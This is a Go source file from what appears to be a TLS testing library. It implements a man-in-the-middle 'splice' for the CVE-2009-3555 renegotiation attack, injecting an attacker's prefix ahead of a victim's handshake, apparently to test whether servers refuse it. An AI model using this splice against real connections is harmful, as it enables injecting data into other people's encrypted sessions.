package legacyclient

import (
	"errors"
	"net"
	"sync"
	"time"

	"github.com/parley-tls/parley/internal/wire"
)

// A Splice is the man in the middle of CVE-2009-3555: he lets a victim's first
// handshake through, inside a connection of his own, as a renegotiation. From
// the ChangeCipherSpecs on he understands nothing and only passes on.
type Splice struct {
	// Attacker is his connection to the server, established; the prefix was written
	// already.
	Attacker *Client
	// Victim is where the victim begins its first handshake, in clear.
	Victim net.Conn
	// Rewrite, if not nil, changes the victim's hello, which its Finished will not
	// match then; it may be tried all the same.
	Rewrite func(*wire.ClientHello)
	// Timeout limits every wait; zero: 10 seconds.
	Timeout time.Duration
}

// A Side is one end of a spliced connection.
type Side uint8

// The sides.
const (
	SideNone Side = iota // nobody: a deadline ended the splice
	SideServer
	SideVictim
)

// String names the side.
func (s Side) String() string { return [...]string{"nobody", "the server", "the victim"}[s] }

// A SplicedAlert is an alert that passed.
type SplicedAlert struct {
	From      Side
	Level     wire.AlertLevel
	Alert     wire.Alert
	Encrypted bool // under the victim's keys: Level and Alert are unknown
}

// Passed is what went one way.
type Passed struct {
	Messages []wire.MessageType // in clear, before ChangeCipherSpec
	Changed  bool               // ChangeCipherSpec passed
	// After ChangeCipherSpec, as far as record headers tell: Handshake counts the
	// records with Finished and what may follow it, Data those with application
	// data, DataBytes the bytes in these, protection included.
	Handshake, Data, DataBytes int
}

// A Spliced is what came of a splice.
type Spliced struct {
	Hello    *wire.ClientHello // as the server got it
	ToServer Passed
	ToVictim Passed
	// AttackerData is what the server answered to the prefix, under the attacker's
	// keys.
	AttackerData []byte
	Alerts       []SplicedAlert
	EndedBy      Side // who sent the first fatal alert or ended the connection
}

// Complete reports whether the handshake went through: both sides' Finished
// passed, and the client's data may follow the prefix.
func (s *Spliced) Complete() bool { return s.ToServer.Handshake > 0 && s.ToVictim.Handshake > 0 }

// Refused reports whether the server warned no_renegotiation.
func (s *Spliced) Refused() bool {
	for _, a := range s.Alerts {
		if a.From == SideServer && !a.Encrypted && a.Alert == wire.AlertNoRenegotiation {
			return true
		}
	}
	return false
}

// Run splices until one side ends it or a deadline passes. It leaves both
// connections to be closed by the caller. The error is one of the splice itself.
func (s *Splice) Run() (*Spliced, error) {
	if s.Attacker.state.Handshakes == 0 {
		return nil, errors.New("the attacker's own handshake is not complete")
	}
	if s.Timeout == 0 {
		s.Timeout = 10 * time.Second
	}
	r := &splicing{Splice: s}
	var both sync.WaitGroup
	both.Go(func() { r.pump(SideVictim, r.fromVictim) })
	both.Go(func() { r.pump(SideServer, r.fromServer) })
	both.Wait()
	_ = s.Attacker.SetReadDeadline(time.Time{})
	_ = s.Victim.SetReadDeadline(time.Time{})
	return &r.result, r.err
}
